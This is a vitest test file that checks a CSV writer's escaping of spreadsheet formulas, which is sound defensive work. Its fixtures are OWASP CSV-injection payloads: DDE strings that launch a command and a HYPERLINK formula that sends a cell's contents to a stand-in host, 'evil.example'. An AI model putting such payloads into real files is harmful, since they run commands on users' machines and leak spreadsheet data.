import { describe, expect, it } from 'vitest';
import { csvCell, csvRows } from './csv.ts';

// Payloads from OWASP's CSV Injection page, plus the tab and carriage-return variants.
const OWASP = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+2`,
  `\r=1+2`,
  `=1+2";=1+2`,
  `=1+2'" ;,=1+2`,
];

describe('csvCell', () => {
  it.each(OWASP)('neutralises the formula %j: quoted, with a leading apostrophe', (payload) => {
    const cell = csvCell(payload);
    expect(cell.startsWith(`"'`)).toBe(true);
    expect(cell.endsWith('"')).toBe(true);
    // Inside the quotes, every quote is doubled: the cell cannot end early and start a second, live cell.
    expect(cell.slice(1, -1).replace(/""/g, '')).not.toContain('"');
    expect(cell.slice(2, -1).replace(/""/g, '"')).toBe(payload);
  });
  it('leaves plain text, numbers (negative ones too) and empty cells readable', () => {
    expect(csvCell('overall')).toBe('overall');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell(-0.25)).toBe('-0.25');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(null)).toBe('');
  });
  it('writes rows', () => {
    expect(csvRows([['=1', 2], ['x', null]])).toBe(`"'=1",2\nx,\n`);
  });
});
